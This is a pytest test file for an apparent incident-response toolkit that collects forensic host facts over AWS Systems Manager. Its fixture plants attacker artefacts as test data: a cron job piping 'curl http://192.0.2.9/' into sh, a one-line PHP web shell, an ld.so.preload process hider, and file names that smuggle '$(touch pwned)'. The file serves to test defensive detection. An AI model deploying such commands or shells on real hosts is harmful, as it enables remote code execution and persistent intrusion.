from __future__ import annotations

import hashlib
import json
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from irkit import capture
from irkit.capture import HostFacts, host
from irkit.capture.host_facts import parse
from irkit.case import Case
from irkit.journal import Kind
from irkit.plan import Plan, Status

pytestmark = pytest.mark.needs_user_namespaces
CANARY = "canary-5d1f"


@pytest.fixture
def stored(open_case: Callable[..., Case], bucket: str) -> Case:
    """A case whose host output goes to the evidence bucket."""
    return open_case(sources={"evidence_bucket": bucket})


def plan(world: SimpleNamespace, case: Case) -> Plan:
    return capture.plan(case, world.instance_id, only=["host"])


def facts(case: Case) -> HostFacts:
    item = case.evidence.items(kind="host-facts")[0]
    return HostFacts.from_dict(json.loads(case.evidence.read(item)))


def commands(world: SimpleNamespace) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = (
        world.sim.session().client("ssm").list_commands(InstanceId=world.instance_id)["Commands"]
    )
    return found


@pytest.fixture
def planted_things(world: SimpleNamespace) -> Iterator[Path]:
    """Hostile and hidden things on the host, gone after the test; yields the root of its tree."""
    root: Path = world.sim.hosts.find(world.instance_id).root
    files = {
        "etc/ld.so.preload": b"/usr/lib/libprocesshider.so\n",
        "etc/cron.d/a\nb $(touch pwned) \x1b[31m": b"@reboot root /tmp/start 'x y'\n",
        "var/spool/cron/apache": b"MAILTO=x\n*/5 * * * * curl http://192.0.2.9/ | sh\n",
        "etc/systemd/system/update.timer": b"[Timer]\nOnCalendar=hourly\n",
        "etc/systemd/system/update.service": b"[Service]\nExecStartPre=-/bin/true\nExecStart=/var/tmp/up --quiet\n",
        "tmp/--begin\n-- exit 0": b"\n--0123456789abcdef end files\nroot:x:0",
        "tmp/\xff\xfe not utf-8": b"x",
        "var/www/html/uploads/up.phtml": b"<?php passthru($_POST['c']);",
    }
    raw = {root / name: data for name, data in files.items() if "\xff" not in name}
    for path, data in raw.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    odd = bytes(root) + b"/tmp/\xff\xfe not utf-8"
    with open(odd, "wb") as file:  # noqa: PTH123  a name that is not text
        file.write(b"x")
    yield root
    for path in [*raw, Path(odd.decode("utf-8", "surrogateescape"))]:
        path.unlink()


def shell(world: SimpleNamespace, script: str) -> None:
    """Run something on the host as the intruder would, outside of irkit."""
    ssm = world.sim.session().client("ssm")
    sent = ssm.send_command(
        InstanceIds=[world.instance_id], DocumentName="AWS-RunShellScript", Parameters={"commands": [script]}
    )
    for _ in range(200):
        time.sleep(0.05)
        states = ssm.list_command_invocations(CommandId=sent["Command"]["CommandId"])["CommandInvocations"]
        if states and states[0]["Status"] not in {"Pending", "InProgress"}:
            return


def test_everything_planted_on_the_host_is_in_the_facts(world: SimpleNamespace, stored: Case) -> None:
    report = plan(world, stored).apply()

    assert report.exit_code == 0, report.steps
    seen = facts(stored)
    truth = {f["id"]: f["value"] for f in world.truth["facts"] if f["how"] == "host"} | {
        f["id"]: f["value"] for f in world.truth["facts"] if f["id"] == "pool"
    }
    assert [p.exe for p in seen.deleted] == [truth["miner"]]
    assert seen.deleted[0].sha256
    assert truth["cron-command"] in {c.command for c in seen.cron if c.file == truth["cron-file"]}
    assert truth["ssh-key"] in {k.fingerprint for k in seen.keys if k.file == truth["keys-file"]}
    assert [f.path for f in seen.files if f.code] == [truth["shell-file"]]
    assert truth["pool"] in {
        f"{s.remote}:{s.remote_port}" for s in seen.sockets if s.pid == seen.deleted[0].pid
    }
    shell_name = truth["shell-file"].rsplit("/", 1)[-1]
    first = min(r.at or "" for r in seen.requests if shell_name in r.target)
    assert first == truth["entry"]
    assert {r.address for r in seen.requests if shell_name in r.target} == {truth["web-address"]}
    hostile = next(f["value"] for f in world.truth["hostile"] if f["id"] == "file-name")
    assert hostile in {f.path for f in seen.files}
    assert seen.missing == ()


def test_output_and_script_are_kept_with_their_hashes(world: SimpleNamespace, stored: Case) -> None:
    steps = plan(world, stored)
    steps.apply()
    output, item = (stored.evidence.items(kind=k)[0] for k in ("host-output", "host-facts"))
    script = hashlib.sha256(host.script().encode()).hexdigest()
    assert steps.steps[0].args["sha256"] == script == output.notes["script_sha256"]
    assert output.notes["output"][0].startswith("s3://")
    assert item.notes["from_sha256"] == output.sha256
    assert stored.evidence.read(output).startswith(b"irkit-facts gzip base64\n")
    intended = next(e for e in stored.journal.entries if e.kind is Kind.INTENDED)
    assert intended.body["args"]["sha256"] == script


def test_hostile_names_hidden_jobs_and_preloads_come_through_as_they_are(
    world: SimpleNamespace, stored: Case, planted_things: Path
) -> None:
    shell(
        world,
        f"CANARY='{CANARY}\nSECRET_LINE=x' setsid sh -c 'sleep 20; :' 'a\nb' '$(touch pwned)' >/dev/null 2>&1 &",
    )
    plan(world, stored).apply()
    seen = facts(stored)

    jobs = {c.file: c for c in seen.cron}
    odd = jobs["/etc/cron.d/a\nb $(touch pwned) \x1b[31m"]
    assert (odd.schedule, odd.user, odd.command) == ("@reboot", "root", "/tmp/start 'x y'")
    spooled = jobs["/var/spool/cron/apache"]
    assert (spooled.schedule, spooled.user, spooled.command) == (
        "*/5 * * * *",
        "apache",
        "curl http://192.0.2.9/ | sh",
    )
    assert "/usr/lib/libprocesshider.so" in seen.texts["preload"]
    assert "/etc/ld.so.preload" in {f.path for f in seen.files if f.why == "preload"}
    units = {u.file: u.commands for u in seen.units}
    assert units["/etc/systemd/system/update.service"] == ("/bin/true", "/var/tmp/up --quiet")
    assert "/etc/systemd/system/update.timer" in units
    paths = {f.path for f in seen.files}
    assert {"/tmp/--begin\n-- exit 0", "/tmp/\udcff\udcfe not utf-8"} <= paths
    assert "/var/www/html/uploads/up.phtml" in {f.path for f in seen.files if f.code}
    process = next(p for p in seen.processes if "a\nb" in p.cmdline)
    assert process.cmdline[-1] == "$(touch pwned)"
    assert "CANARY" in process.env_names
    kept = b"".join(stored.evidence.read(i) for i in stored.evidence.items(kind="host-facts"))
    assert CANARY.encode() not in kept, "values of environment variables are never read out"
    assert not list(planted_things.rglob("pwned"))


def test_without_a_bucket_parts_are_fetched_one_by_one_and_what_was_cut_is_named(
    world: SimpleNamespace, case: Case
) -> None:
    report = plan(world, case).apply()
    assert report.exit_code == 3
    assert [m.split(":")[0] for m in report.steps[0].missing] == ["/var/log/httpd/access_log"]
    seen = facts(case)
    assert seen.deleted
    assert seen.cron
    assert seen.logs
    entry = next(f["value"] for f in world.truth["facts"] if f["id"] == "entry")
    shell_file = next(f["value"] for f in world.truth["facts"] if f["id"] == "shell-file").rsplit("/", 1)[-1]
    assert min(r.at or "" for r in seen.requests if shell_file in r.target) == entry, (
        "found in the whole of the log"
    )
    assert case.evidence.items(kind="host-facts")[0].partial


def test_an_unreadable_bucket_makes_it_ask_in_parts(world: SimpleNamespace, stored: Case) -> None:
    world.sim.faults.inject("s3", "GetObject", "AccessDenied", status=403, times=9)
    report = plan(world, stored).apply()
    assert report.exit_code == 3
    assert [m.split(":")[0] for m in report.steps[0].missing] == ["/var/log/httpd/access_log"]
    seen = facts(stored)
    assert seen.deleted
    assert len(report.steps[0].result["commands"]) == len(host._LINUX_GROUPS)
    first = next(i for i in stored.evidence.items() if i.name == "host-facts.first.out")
    assert first.partial
    assert "AccessDenied" in first.notes["cut"][0]
    assert parse(stored.evidence.read(first)).deleted, "what is most volatile comes first"


def test_an_agent_that_is_off_fails_this_kind_alone(world: SimpleNamespace, stored: Case) -> None:
    world.sim.hosts.switch_agent(world.instance_id, online=False)
    try:
        report = capture.plan(stored, world.instance_id, only=["console", "host"]).apply()
    finally:
        world.sim.hosts.switch_agent(world.instance_id, online=True)
    stands = {s.verb: s for s in report.steps}
    assert stands["capture.host"].status is Status.FAILED
    assert "ConnectionLost" in stands["capture.host"].why
    assert stands["capture.console"].status is Status.DONE
    assert report.exit_code == 3
    assert plan(world, stored).apply().exit_code == 0, "once it is back, the same plan goes on"


def test_a_kill_while_the_script_runs_attaches_to_the_same_command(
    world: SimpleNamespace, stored: Case
) -> None:
    steps = plan(world, stored)
    ident = steps.steps[0].id(stored.id)
    ssm = world.sim.session().client("ssm")
    sent = ssm.send_command(
        InstanceIds=[world.instance_id], DocumentName="AWS-RunShellScript",
        Comment=f"irkit {ident} 0 case {stored.id}"[:100],
        Parameters={"commands": [host.script()]}, OutputS3BucketName=world.public["evidence_bucket"],
        OutputS3KeyPrefix=f"ssm/{stored.id}/{ident}",
    )["Command"]["CommandId"]  # fmt: skip
    stored.journal.append(Kind.INTENDED, step=ident, verb="capture.host", target=world.instance_id)
    before = len(commands(world))

    report = steps.apply()

    assert report.exit_code == 0, report.steps
    assert report.steps[0].result["commands"] == [sent]
    assert len(commands(world)) == before


def test_a_kill_after_the_output_was_kept_asks_the_host_nothing(world: SimpleNamespace, stored: Case) -> None:
    steps = plan(world, stored)
    steps.apply()
    stored.journal.append(Kind.INTENDED, step=steps.steps[0].id(stored.id), verb="capture.host")
    before = len(commands(world))
    assert steps.apply().exit_code == 0
    assert len(commands(world)) == before
    assert len(stored.evidence.items()) == 2


@pytest.mark.parametrize("after", [True, False], ids=["took-effect", "had-no-effect"])
def test_a_lost_answer_never_runs_the_script_twice(world: SimpleNamespace, stored: Case, after: bool) -> None:
    before = len(commands(world))
    world.sim.faults.inject("ssm", "SendCommand", "InternalServerError", status=500, after=after)
    assert plan(world, stored).apply().exit_code == 0
    assert len(commands(world)) == before + 1


def test_a_script_that_takes_too_long_is_cancelled(
    world: SimpleNamespace, stored: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(host, "script", lambda: "#!/bin/sh\nsleep 60\n")
    monkeypatch.setattr(host, "DEADLINE", 5.0)
    report = plan(world, stored).apply()
    assert report.steps[0].status is Status.FAILED
    assert "cancelled" in report.steps[0].why
    newest = commands(world)[0]
    for _ in range(100):
        if commands(world)[0]["Status"] == "Cancelled":
            break
        time.sleep(0.05)
    assert commands(world)[0]["CommandId"] == newest["CommandId"]
    assert commands(world)[0]["Status"] == "Cancelled"


def test_a_script_that_the_agent_kills_is_explained(
    world: SimpleNamespace, stored: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(host, "script", lambda: "#!/bin/sh\nsleep 60\n")
    monkeypatch.setattr(host, "KILL_SECONDS", 1)
    report = plan(world, stored).apply()
    assert "ExecutionTimedOut" in report.steps[0].why
    assert "did not end in the time" in report.steps[0].why


def test_a_host_that_prints_something_else_gives_no_facts(
    world: SimpleNamespace, stored: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(host, "script", lambda: "#!/bin/sh\necho 'sh: \x1b[31mnot found'; exit 3\n")
    report = plan(world, stored).apply()
    assert report.steps[0].status is Status.FAILED
    assert "printed no facts (exit code 3)" in report.steps[0].why
    assert stored.evidence.items() == []


def test_a_host_that_is_not_what_ec2_says_is_refused_by_systems_manager(
    world: SimpleNamespace, stored: Case
) -> None:
    from dataclasses import replace

    windows = replace(capture.describe(stored, world.instance_id), platform="Windows BYOL")
    report = Plan(stored, host.steps(stored, windows), title="host").apply()
    assert "UnsupportedPlatformType" in report.steps[0].why


def test_nothing_that_reaches_the_host_carries_a_credential(world: SimpleNamespace, stored: Case) -> None:
    import os

    plan(world, stored).apply()
    secrets = [os.environ["AWS_SECRET_ACCESS_KEY"].encode(), os.environ["AWS_ACCESS_KEY_ID"].encode()]
    root: Path = world.sim.hosts.find(world.instance_id).root
    orchestration = root / "var/lib/amazon/ssm"
    left = [p.read_bytes() for p in orchestration.rglob("*") if p.is_file()]
    sent = [json.dumps(c["Parameters"]).encode() for c in commands(world)]
    assert left
    assert not [s for s in secrets for text in (*left, *sent) if s in text]
